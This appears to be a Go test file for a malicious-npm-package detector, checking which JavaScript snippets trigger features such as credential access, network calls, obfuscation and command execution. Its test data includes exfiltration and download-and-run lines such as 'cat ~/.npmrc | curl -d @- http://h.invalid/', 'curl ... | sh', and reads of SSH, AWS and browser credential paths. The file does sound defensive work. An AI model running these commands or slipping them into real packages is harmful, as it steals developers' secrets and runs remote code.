package feature

import (
	"encoding/base64"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/amalfi-audit/audit/internal/npm"
	"github.com/amalfi-audit/audit/internal/program"
)

// set extracts the features of files given as path and content in turn.
func set(files ...string) *Set {
	t := &npm.Tree{}
	for i := 0; i < len(files); i += 2 {
		t.Files = append(t.Files, npm.File{Path: files[i], Size: int64(len(files[i+1])), Data: []byte(files[i+1])})
	}
	t.Sort()
	return extract(t, program.Options{})
}

func extract(t *npm.Tree, opt program.Options) *Set {
	counts := make(map[string][]Count)
	opt.Read = func(f *npm.File, language program.Language) *program.Source {
		var r Reader
		s := program.ReadSource(f, language, program.ReadOptions{Visitor: &r})
		counts[f.Path] = r.Counts()
		return s
	}
	return Extract(program.Load(t, opt), counts)
}

// occurrences renders where a set has a feature.
func occurrences(s *Set, feature string) []string {
	var out []string
	for f, o := range s.Occurrences(feature) {
		out = append(out, strings.TrimSpace(fmt.Sprintf("%s:%d:%d %s", f.Path, o.Line, o.Column, o.Detail)))
	}
	return out
}

// uses has for each feature that scripts have what counts once, and what does
// not count.
var uses = map[string]struct{ once, never []string }{
	"pii": {
		once: []string{`x.password`, `document.cookie`, `user['api_key']`, `const {accessToken} = body`, `a.creditCard`, `req.cookies.sid`, `w.mnemonic`, `process.env.NPM_TOKEN`, `o.client_secret`},
		never: []string{`// x.password`, `'password'`, `lexer.token`, `Object.keys(x)`, `x.key`, `({password: 1})`, `class A { password() {} }`, `x.tokens`, `x.passwordless`,
			`x.card`, `x.secretary`, `x.monkey`},
	},
	"file-system": {
		once: []string{`require('fs').readFileSync(x)`, `const {readFile: r} = require('node:fs/promises'); r(x)`, `import fs from 'fs-extra'; fs.copy(a)`, `foo(require('fs'))`,
			`import * as g from 'graceful-fs'; g.open()`, `const f = require('fs'); const {promises: p} = f; p.stat(x)`},
		never: []string{`// require('fs').x()`, `'require("fs")'`, `const fs = {}; fs.readFile()`, `require('./fs').read()`, `x.fs.read()`, `require('fs');`, `const fs = require('fs')`},
	},
	"process-creation": {
		once: []string{`require('child_process').exec(x)`, `const cp = require('child' + '_process'); cp['ex' + 'ec'](x)`, `process.binding('spawn_sync')`, `require('execa')('ls')`,
			`globalThis['req' + 'uire']('child_process').spawn(x)`, `module.constructor._load('child_process').fork(x)`, `import('child_process').then(c => c.exec(x))`},
		never: []string{`/a/.exec('b')`, `x.exec(y)`, `// require('child_process').exec()`, `const spawn = () => {}; spawn()`, `function f(require) { require('./child_process').exec() }`},
	},
	"network": {
		once: []string{`fetch(u)`, `require('https').request(u)`, `new XMLHttpRequest()`, `new WebSocket(u)`, `import axios from 'axios'; axios.get(u)`, `window.fetch(u)`, `navigator.sendBeacon(u)`,
			`import {get} from 'node:http'; get(u)`, `require('dns').lookup('a')`, `require('node-fetch')(u)`},
		never: []string{`// fetch(u)`, `function fetch() {} fetch(u)`, `x.fetch(u)`, `typeof fetch`, `'fetch(u)'`, `const {fetch} = opts; fetch(u)`, `api.request(u)`},
	},
	"cryptography": {
		once:  []string{`require('crypto').createHash('sha1').update(x).digest('hex')`, `crypto.subtle.digest(a, b)`, `import {randomBytes} from 'crypto'; randomBytes(8)`, `require('crypto-js').AES.encrypt(a, b)`},
		never: []string{`const crypto = {}; crypto.subtle()`, `x.crypto.y()`, `'crypto'`, `crypto`},
	},
	"data-encoding": {
		once: []string{`atob(x)`, `Buffer.from(x, 'base64')`, `b.toString('hex')`, `f(x).toString('base64')`, `encodeURIComponent(x)`, `new TextDecoder()`, `require('zlib').gunzipSync(x)`,
			`new Buffer(x, 'base64')`},
		never: []string{`Buffer.from(x)`, `x.toString()`, `x.toString('utf8')`, `x.toString(16)`, `Buffer.alloc(10)`, `x.atob(y)`, `Buffer.isBuffer(x)`},
	},
	"dynamic-code": {
		once: []string{`eval(x)`, `(0, eval)(x)`, `new Function(x)`, `Function('a', x)()`, `require('vm').runInThisContext(x)`, `setTimeout('x()', 1)`, `require(x)`, `import(x)`, `m._compile(x, y)`,
			`(() => {}).constructor(x)()`, `WebAssembly.instantiate(x)`, `globalThis['ev' + 'al'](x)`},
		never: []string{`x instanceof Function`, `setTimeout(f, 1)`, `setTimeout(() => {}, 1)`, `require('a')`, `import('./a')`, `x.eval(y)`, `const eval2 = 1`, `WebAssembly`, `typeof require`, `require.resolve('x')`},
	},
	"minified": {
		once: []string{"!function(){" + strings.Repeat("var a=1,b=2;if(a>b){c(a,b)}else{d(a+b,[a,b],{a:b})}for(var i=0;i<9;i++)e(i,a[i],b[i]);", 60) + "}();"},
		never: []string{strings.Repeat("const total = add(first, second);\nif (total > limit) {\n  report(total);\n}\n", 60), "const table = ['" + strings.Repeat("abc', '", 900) + "'];",
			"// " + strings.Repeat("all rights reserved, ", 300) + "\nf();"},
	},
	"environment": {once: []string{`process.env.HOME`, `process['env'].X`, `const {PATH} = process.env; f(PATH)`, `const {env} = process; env.A`, `process.env[x]`, `import {env} from 'process'; env.B`}, never: []string{`x.env.Y`, `process.environment`, `env.X`, `process.env`, `const process = {env: {}}; process.env.X`, `process.env.X = 1`}},
	"environment-whole": {
		once:  []string{`JSON.stringify(process.env)`, `({...process.env})`, `Object.keys(process.env)`, `f(process.env)`, `const e = process.env; f(e)`},
		never: []string{`process.env.X`, `const e = process.env; e.X`, `process.env[x]`, `const {A} = process.env`},
	},
	"environment-secrets": {once: []string{`process.env.NPM_TOKEN`, `process.env.AWS_SECRET_ACCESS_KEY`, `process.env['GITHUB_' + 'TOKEN']`}, never: []string{`process.env.HOME`, `x.NPM_TOKEN`, `process.env.KEYBOARD`}},
	"host-identity":       {once: []string{`require('os').hostname()`, `import {userInfo} from 'os'; userInfo()`, `process.env.USER`, `os = require('os'); os.networkInterfaces()`}, never: []string{`require('os').platform()`, `require('os').EOL`, `process.env.PATH`, `location.hostname`}},
	"home-folder":         {once: []string{`require('os').homedir()`, `process.env.APPDATA`}, never: []string{`x.homedir()`, `process.env.PATH`}},
	"credential-paths": {
		once:  []string{`read(home + '/.npmrc')`, `'~/.ssh/id_rsa'`, "`${h}/.aws/credentials`", `path.join(h, '.netrc')`, `'C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data'`, `'/.np' + 'mrc'`},
		never: []string{`// ~/.npmrc`, `'npmrc'`, `x.ssh`, `'the .npmrcs of all'`, `'passwd'`},
	},
	"startup-paths": {once: []string{`'~/.bashrc'`, `'.github/workflows/x.yml'`, `'.git/hooks/pre-commit'`, `'.vscode/tasks.json'`}, never: []string{`// ~/.bashrc`, `'bashrc'`, `'github/workflows'`}},
	"browser-data":  {once: []string{`document.cookie`, `localStorage.getItem('x')`, `window.ethereum.request(x)`, `navigator.clipboard.readText()`}, never: []string{`x.localStorage`, `'document.cookie'`, `document.title`, `typeof localStorage`}},
	"global-patches": {
		once:  []string{`window.fetch = f`, `XMLHttpRequest.prototype.send = f`, `require('module')._load = f`, `console.log = f`, `globalThis.fetch = f`, `require('https').request = f`, `Array.prototype.x = f`},
		never: []string{`fetch(x)`, `x.fetch = f`, `const fetch = f`, `my.prototype.send = f`, `console.log(x)`},
	},
	"ip-hosts": {once: []string{`'http://203.0.113.7/x'`, `'203.0.113.7'`, `'https://203.0.113.7:8080'`, `'http://[2606:4700::1]/'`}, never: []string{`'http://127.0.0.1/'`, `'192.168.1.1'`, `'1.2.3'`, `'http://h.invalid/'`, `// http://203.0.113.7`, `'10.0.0.1'`, `'1.2.3.4.5'`, `'0.0.0.0'`}},
	"webhook-hosts": {
		once:  []string{`'https://webhook.site.invalid/a'`, `'https://discord.com/api/webhooks/1'`, `{hostname: 'api.telegram.org.invalid'}`, `'https://x.m.pipedream.net.invalid'`},
		never: []string{`'https://discord.com/invite'`, `'mywebhook.site.h.invalid'`, `'webhook.sites.invalid'`, `// https://webhook.site.invalid`, `'notwebhook.site.invalid'`},
	},
	"paste-hosts":  {once: []string{`'https://pastebin.com.invalid/raw/x'`, `'https://raw.githubusercontent.com.invalid/a'`, `'PASTEBIN.COM.invalid'`}, never: []string{`'https://github.invalid'`, `x.pastebin`}},
	"tunnel-hosts": {once: []string{`'https://a.ngrok.io.invalid'`}, never: []string{`'ngrok'`, `'https://ngrok.iox.invalid'`}},
	"oast-hosts":   {once: []string{`'x.oast.fun.invalid'`, `'http://a.interact.sh.invalid'`}, never: []string{`'toast.fun.invalid'`, `'boast.fun'`}},
	"dns-data":     {once: []string{"require('dns').lookup(`${x}.h.invalid`)", `require('dns').resolve(a + '.h.invalid', f)`}, never: []string{`require('dns').lookup('h.invalid')`, `require('dns').lookup(host, cb)`, `require('dns').setServers(a + b)`}},

	"decoded-code": {once: []string{`eval(atob('YWxlcnQoMSk7YWxlcnQoMik7YWxlcnQoMyk7'))`}, never: []string{`eval(x)`, `atob(x)`}},
	"string-arrays": {
		once:  []string{"function a(){const t=['log','info','warn','error','table','trace','debug','dir','group','count','assert','time'];a=function(){return t};return a()}function g(i){return a()[i-0x1f]}console[g(0x1f)](1);console[g(0x20)](2);console[g(0x21)](3);console[g(0x22)](4);"},
		never: []string{"const names = ['log', 'info', 'warn', 'error', 'table', 'trace', 'debug', 'dir', 'group', 'count']; for (const n of names) console[n](1);"},
	},
	"flattened-control-flow": {
		once:  []string{"const o='3|0|2|1'.split('|');let i=0;while(!![]){switch(o[i++]){case'0':b();continue;case'1':d();continue;case'2':c();continue;case'3':a();continue;}break;}"},
		never: []string{"while (true) { switch (next()) { case 1: a(); continue; case 2: b(); continue; } break; }", "switch (x) { case '0': a(); case '1': b(); }"},
	},
	"hex-names": {
		once:  []string{"var _0x1a2b=1,_0x3c4d=2,_0x5e6f=3,_0x7a8b=4,_0x9c0d=5,_0x1e2f=6;f(_0x1a2b,_0x3c4d,_0x5e6f,_0x7a8b,_0x9c0d,_0x1e2f)"},
		never: []string{"var a = 0x1a2b, b = 0x3c4d, c = 0x5e6f;", "var _0x = 1;", "f('_0x1a2b', '_0x3c4d', '_0x5e6f', '_0x7a8b')"},
	},
	"self-defence": {
		once:  []string{"setInterval(function () { debugger; }, 100)"},
		never: []string{"debugger;", "setInterval(function () { poll(); }, 100)", "f('debugger')"},
	},
	"escaped-strings": {
		once:  []string{`f('\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73')`},
		never: []string{`f('\u00e9\u00e8\u00e0\u00fc\u00f6\u00e4\u00df\u00e7\u00f1\u00e5')`, `f('\x1b[31m')`, `f(/\x63\x68\x69\x6c\x64\x5f\x70\x72/)`},
	},
	"dense-literals": {
		once:  []string{"f('" + dense() + "')"},
		never: []string{"f('" + strings.Repeat("the quick brown fox ", 30) + "')", "// " + dense()},
	},
	"invisible-characters": {once: []string{"var a = 1; // \u202e x"}, never: []string{`"\u202e"`, "var é = '👩‍👩‍👧'"}},
	"pushed-code":          {once: []string{"x();" + strings.Repeat(" ", 500) + "y();"}, never: []string{"x();" + strings.Repeat(" ", 20) + "y();", strings.Repeat(" ", 500) + "\nx()"}},

	"command-download": {once: []string{`require('child_process').exec('curl -o x http://h.invalid/')`}, never: []string{`'curl http://h.invalid'`, `exec('curl x')`}},
	"command-run":      {once: []string{`require('child_process').exec('curl http://h.invalid/ | sh')`}, never: []string{`require('child_process').exec('curl -o x http://h.invalid/')`}},
	"command-send":     {once: []string{`require('child_process').execSync('curl -d @f http://h.invalid/')`}, never: []string{`require('child_process').exec('curl http://h.invalid/')`}},
	"command-inline":   {once: []string{`require('child_process').exec('python -c "x()"')`}, never: []string{`require('child_process').exec('python x.py')`}},
	"command-hidden":   {once: []string{`require('child_process').exec('node x.js > /dev/null')`}, never: []string{`require('child_process').exec('node x.js')`}},
	"command-traces":   {once: []string{`require('child_process').exec('rm package.json')`}, never: []string{`require('child_process').exec('rm -rf dist')`}},
	"command-secrets":  {once: []string{`require('child_process').exec('cat ~/.npmrc')`}, never: []string{`require('child_process').exec('cat README.md')`}},
	"collect-and-send": {
		once:  []string{`fetch(u, {body: process.env.NPM_TOKEN}); fetch(v)`, `require('dns').lookup(require('os').hostname(), f)`, `require('child_process').exec('cat ~/.npmrc | curl -d @- http://h.invalid/')`},
		never: []string{`fetch(u)`, `x.password`, `fetch(u, {body: process.env.HOME})`, `require('os').hostname(); require('child_process').exec(x)`},
	},
	"decode-and-run": {
		once:  []string{`eval(atob(x)); eval(y)`, `require('child_process').exec(Buffer.from(x, 'base64').toString())`, `require('vm').runInThisContext(require('crypto').createDecipheriv(a, b, c).update(d))`},
		never: []string{`atob(x)`, `eval(x)`, `fetch(atob(x))`},
	},
	"command-publish": {once: []string{`require('child_process').exec('npm publish')`}, never: []string{`require('child_process').exec('npm --version')`}},
}

// dense is text in base64 that stands for no known kind of data.
func dense() string {
	var b []byte
	state := uint32(12345)
	for range 300 {
		state = state*1664525 + 1013904223
		b = append(b, byte(state>>24))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// packageFeatures are tested apart: they are not of scripts alone.
var packageFeatures = []string{nameInstallScripts, nameBinary, nameEntropyAverage, nameEntropyDeviation, nameUpdateType, nameTime, nameInstallOnly, nameDependencies, nameRemote, nameUnused, nameMismatch, nameNewCapabilities}

func TestUses(t *testing.T) {
	for i := range Table {
		name := Table[i].Name
		cases, ok := uses[name]
		if !ok {
			if !slices.Contains(packageFeatures, name) {
				t.Errorf("feature %s has no cases", name)
			}
			continue
		}
		for _, src := range cases.once {
			s := set("package.json", "{}", "a.js", src)
			if got := s.Value(&Table[i]); got != 1 {
				t.Errorf("%s counts %v times in\n\t%s\n\t%q", name, got, src, occurrences(s, name))
			}
		}
		for _, src := range cases.never {
			s := set("package.json", "{}", "a.js", src)
			if got := s.Value(&Table[i]); got != 0 {
				t.Errorf("%s counts %v times in\n\t%s\n\t%q", name, got, src, occurrences(s, name))
			}
		}
	}
	for name := range uses {
		if Lookup(name) == nil {
			t.Errorf("cases for %s, which is no feature", name)
		}
	}
}

func TestTable(t *testing.T) {
	if len(Table) > 64 {
		t.Errorf("%d features, but sets of them are 64 bits", len(Table))
	}
	names := make(map[string]bool)
	paper := true
	for _, f := range Table {
		if !regexp.MustCompile(`^[a-z]+(-[a-z]+)*$`).MatchString(f.Name) || names[f.Name] {
			t.Errorf("name %q", f.Name)
		}
		names[f.Name] = true
		if f.Meaning == "" || f.Counts == "" || f.Group == "" {
			t.Errorf("%s is not described", f.Name)
		}
		if f.Paper && !paper {
			t.Errorf("%s of Amalfi's set stands behind the extended ones", f.Name)
		}
		paper = f.Paper
	}
}

func TestPositions(t *testing.T) {
	s := set("package.json", "{\n \"main\": \"b.js\", \"scripts\": {\"postinstall\": \"node a && curl -d x http://h.invalid\"}}",
		"a.js", "\n  const {exec: é} = require('child_process');\n\tif (x) é(y); é(z)\n", "b.js", "/* 😀 */ fetch(u)", "c.js", "fetch(u)")
	for feature, want := range map[string][]string{
		"process-creation": {"a.js:3:9 child_process#exec", "a.js:3:15 child_process#exec"},
		"network":          {"b.js:1:10 fetch", "c.js:1:1 fetch"},
		"install-scripts":  {"package.json:2:45 postinstall"},
		"command-send":     {"package.json:2:45 curl -d"},
	} {
		if diff := cmp.Diff(want, occurrences(s, feature)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", feature, diff)
		}
	}
}

func TestPackageFeatures(t *testing.T) {
	tree := &npm.Tree{Files: []npm.File{
		{Path: "binding.gyp", Size: 2, Data: []byte("{}"), Entropy: 1},
		{Path: "build/x.node", Size: 9, Content: npm.ContentELF, Entropy: 5},
		{Path: "empty", Size: 0},
		{Path: "image.png", Size: 9, Content: npm.ContentBinary, Entropy: 6},
		{Path: "inner.tgz", Size: 9, Content: npm.ContentGzip, Entropy: 8},
		{Path: "package.json", Size: 1, Data: []byte(`{"dependencies":{"a":"1","b":"git+https://h.invalid/b.git"},"optionalDependencies":{"c":"o/r","a":"1"},"devDependencies":{"d":"1"}}`)},
	}}
	s := extract(tree, program.Options{})
	for feature, want := range map[string][]string{
		"binary":              {"build/x.node:0:0 elf", "inner.tgz:0:0 gzip"},
		"install-scripts":     {"binding.gyp:1:1 install"},
		"dependencies":        {"package.json:0:0 a", "package.json:0:0 b", "package.json:0:0 c"},
		"remote-dependencies": {"package.json:0:0 b git+https://h.invalid/b.git", "package.json:0:0 c o/r"},
	} {
		if diff := cmp.Diff(want, occurrences(s, feature)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", feature, diff)
		}
	}
	unused := func(files ...string) []string {
		return occurrences(set(append([]string{"package.json", `{"dependencies":{"a":"1","@b/c":"1","d":"1","@types/e":"1"},"optionalDependencies":{"f":"1"}}`}, files...)...), "unused-dependencies")
	}
	if diff := cmp.Diff([]string{"package.json:0:0 d", "package.json:0:0 f"}, unused("a.js", "require('a/x')", "b.mjs", "import c from '@b/c/y/z'")); diff != "" {
		t.Errorf("unused-dependencies (-want +got):\n%s", diff)
	}
	if got := unused("a.js", strings.Repeat("((", 20_000)); got != nil {
		t.Errorf("unused-dependencies beside a script that was not read: %q", got)
	}
	// 1, 5, 6, 8 and 0: mean 4, variance (9+1+4+16+16)/5 = 9.2
	if diff := cmp.Diff(map[string]float64{"entropy-average": 4, "entropy-deviation": 3.0332}, s.Measures); diff != "" {
		t.Errorf("measures (-want +got):\n%s", diff)
	}
	s = set("package.json", `{"main":"m.js","scripts":{"install":"node i.js"}}`, "i.js", "require('./s')", "s.js", "", "only.js", "", "m.js", "require('./s')")
	if diff := cmp.Diff([]string{"i.js:0:0"}, occurrences(s, "install-only-files")); diff != "" {
		t.Errorf("install-only-files (-want +got):\n%s", diff)
	}
}

// Many harmless occurrences do not push out one that is not.
func TestBounds(t *testing.T) {
	s := set("package.json", "{}", "a.js", strings.Repeat("process.env.A;\n", 1000)+"process.env.B;\n"+strings.Repeat("process.env.A;\n", 10))
	f := Lookup("environment")
	if got := s.Value(f); got != 1011 {
		t.Errorf("%v reads, want 1011", got)
	}
	list := occurrences(s, f.Name)
	if len(list) != MaxOccurrences+1 || list[MaxOccurrences] != "a.js:1001:1 B" {
		t.Errorf("%d are listed, the last %q", len(list), list[len(list)-1])
	}
	var many strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&many, "process.env.V%d;", i)
	}
	s = set("package.json", "{}", "a.js", many.String(), "b.js", "process.env['"+strings.Repeat("x", 5000)+"']")
	if got := len(occurrences(s, f.Name)); got != MaxOccurrences+MaxDetails+1 {
		t.Errorf("%d are listed", got)
	}
	for _, o := range s.Occurrences(f.Name) {
		if len(o.Detail) > MaxDetail {
			t.Errorf("a detail of %d bytes", len(o.Detail))
		}
	}
}
